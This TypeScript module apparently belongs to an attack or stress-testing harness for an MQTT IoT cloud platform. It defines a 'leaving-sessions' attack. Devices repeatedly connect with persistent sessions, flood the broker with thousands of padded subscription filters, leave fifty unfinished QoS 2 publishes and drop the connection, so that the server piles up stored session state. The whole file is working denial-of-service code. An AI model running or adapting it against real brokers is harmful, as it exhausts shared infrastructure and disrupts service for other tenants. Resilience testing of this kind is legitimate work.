/**
 * Devices that come with clean session false, leave long subscriptions and
 * unfinished packets of QoS 2, and go.
 */
import { packet, text } from "../../MqttPackets.ts"
import type { Attack } from "../Attack.ts"
import { openDevice, publish } from "../../DeviceSocket.ts"

const devices = 100
const subscriptions = 4000
const qos2Packets = 50
/** Devices that are connected at a time. */
const concurrency = 4

export const leavingSessions: Attack = {
  name: "leaving-sessions",
  prepare: async ({ address, cloud, count, tenant }) => {
    const all = await tenant.createDevices(await tenant.createProduct("Leaving"), devices)
    let turn = 0
    const comeAndGo = (): void => {
      const device = all[turn++ % devices]!
      const own = device.topic.replace("event/property/post", "service/")
      let left = subscriptions / 100
      openDevice(device, {
        mqtt: cloud.mqtt,
        from: address(turn),
        cleanSession: false,
        onConnack: (code, socket) => {
          if (code !== 0) return socket.destroy()
          count("sessions")
          const subscribe = () => {
            const filters = Array.from(
              { length: 100 },
              (_, n) => Buffer.concat([text(`${own}${left}/${n}/`.padEnd(510, "x")), Buffer.from([1])])
            )
            socket.write(packet(0x82, Buffer.from([0, 1]), ...filters))
            if (--left > 0 && socket.writable) setImmediate(subscribe)
            else {
              const bytes = Buffer.alloc(1000, "x")
              const userTopic = `/${device.productKey}/${device.deviceName}/user/x`
              for (let id = 1; id <= qos2Packets; id++) socket.write(publish(userTopic, bytes, 2, id))
              socket.end()
              // What the server does not read does not keep the device.
              setTimeout(() => socket.destroy(), 2000)
            }
          }
          subscribe()
        },
        onClose: () => setImmediate(comeAndGo)
      })
    }
    return () => {
      for (let i = 0; i < concurrency; i++) comeAndGo()
    }
  }
}
